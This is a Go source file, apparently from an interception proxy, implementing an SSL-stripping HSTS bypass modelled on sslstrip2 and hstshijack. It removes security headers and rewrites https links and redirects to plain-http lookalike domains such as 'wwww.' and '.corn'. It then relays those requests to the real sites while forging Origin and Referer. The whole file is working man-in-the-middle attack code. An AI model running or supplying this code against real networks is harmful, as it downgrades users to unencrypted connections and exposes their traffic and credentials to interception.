package main

import (
	"net/http"
	"regexp"
	"strings"
)

// rename gets around browsers that know a host by HSTS, as sslstrip2 with
// dns2proxy and bettercap's hstshijack do: on plain pages it leads links to
// encrypted hosts to hosts that nobody knows, and answers for those by fetching
// the true ones. Pages that come encrypted are out of its reach.
func rename(u *upstream) road {
	best := u.best()
	relay := u.relay(best, func(res *http.Response) error {
		strippedHeader(res.Header)
		for i, v := range res.Header["Location"] {
			res.Header["Location"][i] = disguisedLinks(v)
		}
		return changeText(res, disguisedLinks)
	})
	plain := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.Host = undisguise(hostname(r.Host))
		for _, name := range []string{"Origin", "Referer"} {
			if v := r.Header.Get(name); v != "" {
				r.Header.Set(name, links.ReplaceAllStringFunc(v, func(link string) string { // what the true host expects to see
					scheme, host, _ := strings.Cut(link, "://")
					if honest := undisguise(host); honest != host {
						return "https://" + honest
					}
					return scheme + "://" + host
				}))
			}
		}
		relay.ServeHTTP(w, r)
	})
	disguised := func(host string) bool { return undisguise(host) != host }
	return road{plain: u.serve(plain), secure: only(disguised, hangUp, u.passSecure)}
}

var links = regexp.MustCompile(`https?://[A-Za-z0-9.-]+`)

// disguisedLinks leads the encrypted addresses in a text to disguised hosts in
// clear.
func disguisedLinks(text string) string {
	return links.ReplaceAllStringFunc(text, func(link string) string {
		if host, ok := strings.CutPrefix(link, "https://"); ok {
			return "http://" + disguise(host)
		}
		return link
	})
}

// disguise gives a host a name that looks like its own: one more w for www
// (sslstrip2), an altered last label for names right below it (hstshijack), and
// web before all others (sslstrip2).
func disguise(host string) string {
	labels := strings.Split(host, ".")
	last := len(labels) - 1
	switch {
	case labels[0] == "www":
		labels[0] = "wwww"
	case labels[last] == "com":
		labels[last] = "corn"
	default:
		labels[0] = "web" + labels[0]
	}
	return strings.Join(labels, ".")
}

// undisguise gives the true name of a host; others stay as they are.
func undisguise(host string) string {
	switch {
	case strings.HasPrefix(host, "wwww."):
		return host[1:]
	case strings.HasSuffix(host, ".corn"):
		return strings.TrimSuffix(host, "corn") + "com"
	case strings.HasPrefix(host, "web"):
		return strings.TrimPrefix(host, "web")
	}
	return host
}
